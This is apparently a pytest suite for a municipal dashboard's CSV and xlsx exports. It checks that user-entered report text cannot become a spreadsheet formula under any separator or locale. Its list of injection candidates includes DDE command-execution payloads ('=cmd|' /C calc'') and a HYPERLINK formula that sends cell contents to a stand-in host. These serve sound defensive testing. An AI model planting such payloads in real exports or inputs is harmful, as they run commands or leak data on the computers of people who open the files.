"""No cell of any export can start a formula, whatever separator the reader splits on
(webui/spreadsheets.py, issue 14 item 10).

The finding: `x,=1+1` in a report's comment passed the old guard (which looked only at a
value's first character) and, in the `;`-separated CSV opened by an Excel whose list
separator is a comma, became the cell `=1+1`. Here 22 injection candidates go through the
real entry point (an organisation's tertial report, then the dashboard's CSV and xlsx
exports over HTTP) and through the shared writer with each of the separators `;`, `,` and
tab; every file is then read as a spreadsheet in any locale might read it — split by comma,
semicolon, tab and pipe, honouring quotes or not — and no field may begin, after the blanks
and double quotes a reader strips, with a formula character. In xlsx no cell is a formula.
"""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.test_dashboard import client_for, get
from tests.test_process_tertial_loop import CALENDAR, plan
from tests.test_webui_auth import make_app
from webui import spreadsheets

CANDIDATES = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "x,=1+1",
    "x;=1+1",
    "x\t=1",
    "x|=1",
    '=HYPERLINK("http://example.invalid/?d="&A1;"klicka")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    " =1",
    '"=1"',
    "x\n=1",
    "x\r\n+1",
    "＋1 och －1 och ＠SUM(A1)",
    "-2+3+cmd|' /C calc'!E2",
    'x, ,"=1",  "@a"',
    "a;b,c\t-d|+e\n@f",
    '"x"",=1',
]
READER_SEPARATORS = (",", ";", "\t", "|")
FORMULA = frozenset("=+-@")


def starts_formula(field: str) -> bool:
    """What a spreadsheet would run: after the double quotes it strips, a tab or line break;
    after those quotes and blanks, = + - @ (or their full-width forms)."""
    unquoted = field.lstrip('"')
    if unquoted[:1] in ("\t", "\r", "\n"):
        return True
    significant = field.lstrip(' \t\r\n\x0b\x0c"\u00a0\u3000')
    return unicodedata.normalize("NFKC", significant[:1])[:1] in FORMULA


def fields_any_reader_sees(text: str) -> Iterator[tuple[str, str, str]]:
    """Every field of `text` as read with every separator, by a reader that honours double
    quotes and by one that does not (which splits inside quoted values)."""
    for separator in READER_SEPARATORS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for field in row:
                yield separator, "quotes", field
        for line in text.splitlines():
            for field in line.split(separator):
                yield separator, "no quotes", field


def formula_fields(data: bytes) -> list[tuple[str, str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return [seen for seen in fields_any_reader_sees(text[1:]) if starts_formula(seen[2])]


def test_the_candidates_are_formulas_to_a_naive_writer() -> None:
    """The check itself finds what it must: each candidate, written as the old export
    wrote it (semicolons, minimal quoting, no guard), opens as a formula somewhere."""
    for candidate in CANDIDATES:
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\r\n").writerow(["Farsta", candidate])
        assert formula_fields(("\ufeff" + out.getvalue()).encode()), candidate


@pytest.mark.parametrize("delimiter", [";", ",", "\t"], ids=["semicolon", "comma", "tab"])
def test_no_candidate_starts_a_formula_with_any_separator(delimiter: str) -> None:
    rows = [[candidate, candidate, len(candidate)] for candidate in CANDIDATES]
    data = spreadsheets.csv_bytes(["Åtgärd", "=Kommentar", "Längd"], rows, delimiter=delimiter)
    assert formula_fields(data) == []
    text = data.decode("utf-8")[1:]
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(parsed) == 1 + len(CANDIDATES)  # with its own separator every row is whole
    for candidate, (first, second, length) in zip(CANDIDATES, parsed[1:], strict=True):
        assert first == second == spreadsheets.neutralise(candidate)
        assert first.replace("'", "") == candidate.replace("'", "")  # only apostrophes added
        assert length == str(len(candidate))


def test_text_that_is_not_a_formula_is_left_as_it_is() -> None:
    for plain in ("Åtgärd 1 i Farsta", "12 st, förra året 19", "a-b", "e-post: x@y.se", ""):
        assert spreadsheets.neutralise(plain) == plain
    assert spreadsheets.neutralise("x,=1") == "x,'=1"
    assert spreadsheets.neutralise(" =1") == "' =1"
    assert spreadsheets.neutralise("'=1") == "'=1"  # already marked as text


def test_a_value_full_of_separators_and_blanks_is_checked_whole() -> None:
    value = "\x0b" * 50_000 + "=1"
    assert spreadsheets.neutralise(value) == "'" + "\x0b'" * 50_000 + "=1"


def test_xlsx_cells_are_strings_never_formulas() -> None:
    rows = [[candidate, 3] for candidate in CANDIDATES]
    data = spreadsheets.xlsx_bytes([("Åtgärder", ["=Åtgärd", "Nr"], rows)], "=title")
    _assert_no_formula_in_workbook(data)
    sheet = load_workbook(io.BytesIO(data))["Åtgärder"]
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"  # numbers stay numbers


def _assert_no_formula_in_workbook(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not starts_formula(cell.value), (cell.coordinate, cell.value)


# -- through the dashboard's exports ----------------------------------------------------------


def test_the_dashboard_exports_hold_the_candidates_as_text(city: Any) -> None:
    """An organisation reports its measures with the candidates as measure names and
    comments; the coordinator exports the dashboard as CSV (every table) and xlsx."""
    city.start("tertial_loop", year=2026, plans=[plan("farsta")])
    city.advance_to(CALENDAR["t1_period_end"])
    measures = [
        {
            "nr": nr,
            "atgard": CANDIDATES[2 * (nr - 1)],
            "status": "påbörjad",
            "farg": "grön",
            "kommentar": CANDIDATES[2 * (nr - 1) + 1],
        }
        for nr in range(1, len(CANDIDATES) // 2 + 1)
    ]
    city.complete(
        "ansvarig.farsta",
        city.task("ansvarig.farsta", "tertial_report", "farsta"),
        {"atgarder": measures},
    )
    client = client_for(make_app(city), "samordnare")
    query = "ar=2026&tertial=T1"
    exported = get(client, f"/oversikt/lagesbild/export.csv?{query}&tabell=atgarder").data
    text = exported.decode("utf-8")[1:]
    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]
    for candidate in CANDIDATES:  # every candidate is in the file, as text
        assert spreadsheets.neutralise(candidate) in cells, candidate
    assert formula_fields(exported) == []
    for table in ("organisationer", "sammanfattning"):
        data = get(client, f"/oversikt/lagesbild/export.csv?{query}&tabell={table}").data
        assert formula_fields(data) == []
    workbook = get(client, f"/oversikt/lagesbild/export.xlsx?{query}").data
    _assert_no_formula_in_workbook(workbook)
    values = [c.value for row in load_workbook(io.BytesIO(workbook))["Åtgärder"] for c in row]
    for candidate in CANDIDATES:
        assert spreadsheets.neutralise(candidate) in values, candidate
